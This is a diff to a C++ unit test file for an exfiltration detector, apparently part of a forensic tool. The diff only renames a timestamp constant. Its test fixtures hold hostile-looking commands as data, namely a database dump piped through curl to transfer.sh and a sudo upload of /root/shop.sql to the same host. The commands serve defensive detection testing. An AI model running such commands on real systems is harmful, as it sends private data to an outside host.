@@ -7,7 +7,7 @@ namespace exfiltration = plugins::exfiltration;
 
 namespace {
 
-constexpr std::int64_t k_start = 1'772'352'000;  // 2026-03-01T08:00:00Z
+constexpr std::int64_t k_first_command = 1'772'352'000;  // 2026-03-01T08:00:00Z
 
 std::string access_line(const std::string& address, const std::string& path, int status, std::int64_t bytes, const std::string& referer = "-") {
     return address + " - - [01/Mar/2026:09:00:00 +0000] \"GET " + path + " HTTP/1.1\" " + std::to_string(status) + " " + std::to_string(bytes) + " \"" + referer + "\" \"curl/7.88.1\"\n";
@@ -102,13 +102,13 @@ private slots:
         QFETCH(QString, found);
         test::CaseFixture fixture;
         test::FileSpec spec;
-        spec.path = "/root/.bash_history", spec.bytes = history.toStdString(), spec.modified = k_start;
+        spec.path = "/root/.bash_history", spec.bytes = history.toStdString(), spec.modified = k_first_command;
         fixture.add_parsed("shell_history", spec);
         QString got;
         for (const auto& f : fixture.detect("exfiltration")) {
             got += QStringLiteral("%1 %2 %3").arg(QString::fromStdString(f.subject)).arg(f.severity).arg(f.confidence);
             QCOMPARE(f.rule, std::string("exfiltration/sent"));
-            QCOMPARE(f.first_s.value_or(0), k_start);
+            QCOMPARE(f.first_s.value_or(0), k_first_command);
             QVERIFY(f.arguments.contains("written"));  // a history without times: the finding says whose time it tells
             QCOMPARE(f.items.at(0).path, spec.path);
             QCOMPARE(f.items.at(0).line.value_or(0), std::int64_t{1});
@@ -117,9 +117,9 @@ private slots:
     }
     void sent_through_sudo_and_not_through_cron() {
         test::CaseFixture fixture;
-        fixture.event("cron.command", k_start, "root", {}, "{\"command\": \"mysqldump shop | curl -T - https://transfer.sh/x\"}");
+        fixture.event("cron.command", k_first_command, "root", {}, "{\"command\": \"mysqldump shop | curl -T - https://transfer.sh/x\"}");
         QVERIFY(fixture.detect("exfiltration").empty());
-        fixture.event("auth.sudo.command", k_start + 60, "deploy", {}, "{\"command\": \"/usr/bin/curl -T /root/shop.sql https://transfer.sh/x\"}");
+        fixture.event("auth.sudo.command", k_first_command + 60, "deploy", {}, "{\"command\": \"/usr/bin/curl -T /root/shop.sql https://transfer.sh/x\"}");
         const auto findings = fixture.detect("exfiltration");
         QCOMPARE(findings.size(), std::size_t{1});
         QCOMPARE(findings[0].items.at(0).key, std::string("deploy"));
@@ -155,7 +155,7 @@ private slots:
         if (const auto part = file.split(' '); part.size() == 3) {
             test::FileSpec spec;
             spec.path = "/var/www/html/" + part[0].toStdString(), spec.size = part[1].toULongLong() * 1000;
-            spec.born = k_start + 3600 - part[2].toLongLong() * 86400, spec.modified = spec.born, spec.digests = false;
+            spec.born = k_first_command + 3600 - part[2].toLongLong() * 86400, spec.modified = spec.born, spec.digests = false;
             fixture.add(spec);
         }
         test::FileSpec spec;
